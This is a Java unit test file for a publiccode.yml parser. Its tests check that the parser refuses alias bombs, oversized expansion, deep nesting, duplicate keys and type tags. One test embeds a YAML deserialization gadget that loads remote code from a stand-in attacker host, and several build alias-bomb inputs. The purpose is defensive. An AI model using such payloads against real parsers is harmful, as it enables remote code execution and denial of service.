package org.connectedcouncils.register.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.util.List;
import java.util.Map;

import org.junit.Test;

import org.connectedcouncils.common.io.ImportError;
import org.connectedcouncils.common.io.ImportLimits;

public class PubliccodeYamlTest {

    @Test
    public void parse_readsScalarsAsTextAndBooleansWithTheLineOfEachKey() {
        String text = PubliccodeFiles.text(PubliccodeFiles.MINIMAL);

        YamlTree tree = PubliccodeYaml.parse(text);

        assertThat(tree.get("publiccodeYmlVersion")).isEqualTo("0.7");
        assertThat(tree.get("localisation.localisationReady")).isEqualTo(false);
        assertThat(tree.get("platforms")).isEqualTo(List.of("web"));
        assertThat(tree.lineOf("maintenance.contacts[0].name"))
                .isEqualTo(PubliccodeFiles.lineOf(text, "- name: Jane Smith"));
        assertThat(tree.lineOf("description.en.shortDescription"))
                .isEqualTo(PubliccodeFiles.lineOf(text, "shortDescription:"));
    }

    @Test
    public void parse_refusesAnAliasBombBeforeExpandingIt() {
        Problem problem = catchProblem(PubliccodeFiles.aliasBomb());

        assertThat(problem.error().code()).isEqualTo(PubliccodeYaml.ALIASES);
    }

    @Test
    public void parse_countsAliasesToScalarsAndStopsAtTheFirstOneOverTheLimit() {
        // One long scalar and thousands of aliases to it: SnakeYAML counts aliases to collections only, and the
        // tree would hold the scalar once per alias, to be expanded when it is dumped, joined or echoed.
        StringBuilder text = new StringBuilder("name: &x \"").append("A".repeat(100_000)).append("\"\nusedBy:\n");
        for (int i = 0; i < 19_000; i++) {
            text.append("  - *x\n");
        }

        Problem problem = catchProblem(text.toString());

        assertThat(problem.error().code()).isEqualTo(PubliccodeYaml.ALIASES);
        // refused at the alias after the fifth: nothing beyond it was expanded
        assertThat(problem.error().field()).isEqualTo("usedBy[" + PubliccodeYaml.MAX_ALIASES + "]");
    }

    @Test
    public void parse_refusesATreeWhoseExpandedTextOutgrowsTheLimit() {
        // within the alias limit, but five copies of a 240,000-character scalar hold more than the tree may
        String text = "name: &x \"" + "B".repeat(240_000) + "\"\nusedBy: [*x, *x, *x, *x]\n";

        Problem problem = catchProblem(text);

        assertThat(problem.error().code()).isEqualTo(ImportLimits.TOO_LARGE);
        assertThat(problem.error().field()).isEqualTo("usedBy[3]");
    }

    @Test
    public void parse_allowsAFewAliases() {
        YamlTree tree = PubliccodeYaml.parse("name: &x Bins\nusedBy: [*x, *x]\n");

        assertThat(tree.get("usedBy")).isEqualTo(List.of("Bins", "Bins"));
    }

    @Test
    public void parse_refusesDeepNesting() {
        String deep = "a: " + "[".repeat(60) + "]".repeat(60) + "\n";

        Problem problem = catchProblem(deep);

        assertThat(problem.error().code()).isEqualTo(PubliccodeYaml.TOO_DEEP);
    }

    @Test
    public void parse_refusesJavaTypeTagsWithoutConstructingAnything() {
        String hostile = "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                + "[\"http://attacker.example/\"]]]]\n";

        Problem problem = catchProblem(hostile);

        assertThat(problem.error().code()).isEqualTo(PubliccodeYaml.BAD_TAG);
        assertThat(problem.error().line()).isEqualTo(1);
    }

    @Test
    public void parse_refusesLocalTags() {
        Problem problem = catchProblem("name: ok\nurl: !custom https://x.example\n");

        assertThat(problem.error().code()).isEqualTo(PubliccodeYaml.BAD_TAG);
        assertThat(problem.error().line()).isEqualTo(2);
    }

    @Test
    public void parse_reportsBrokenSyntaxWithItsLine() {
        String broken = "name: ok\nurl: [unclosed\nplatforms: web\n";

        Problem problem = catchProblem(broken);

        assertThat(problem.error().code()).isEqualTo(PubliccodeYaml.SYNTAX);
        assertThat(problem.error().line()).isGreaterThanOrEqualTo(2);
    }

    @Test
    public void parse_refusesDuplicateKeys() {
        Problem problem = catchProblem("name: one\nurl: https://x.example\nname: two\n");

        assertThat(problem.error().code()).isEqualTo(PubliccodeYaml.DUPLICATE_KEY);
        assertThat(problem.error().line()).isEqualTo(3);
    }

    @Test
    public void parse_refusesADocumentThatIsNotAMapping() {
        Problem problem = catchProblem("- just\n- a list\n");

        assertThat(problem.error().code()).isEqualTo(PubliccodeYaml.NOT_A_MAP);
    }

    @Test
    public void dump_writesWhatParseReadsBack() {
        YamlTree tree = PubliccodeYaml.parse(PubliccodeFiles.text(PubliccodeFiles.FULL));

        Map<String, Object> again = PubliccodeYaml.parse(PubliccodeYaml.dump(tree.root())).root();

        assertThat(again).isEqualTo(tree.root());
    }

    private static Problem catchProblem(String text) {
        PubliccodeYaml.Problem p = catchThrowableOfType(PubliccodeYaml.Problem.class,
                () -> PubliccodeYaml.parse(text));
        assertThat(p).as("a problem").isNotNull();
        return new Problem(p.error());
    }

    private record Problem(ImportError error) {
    }
}
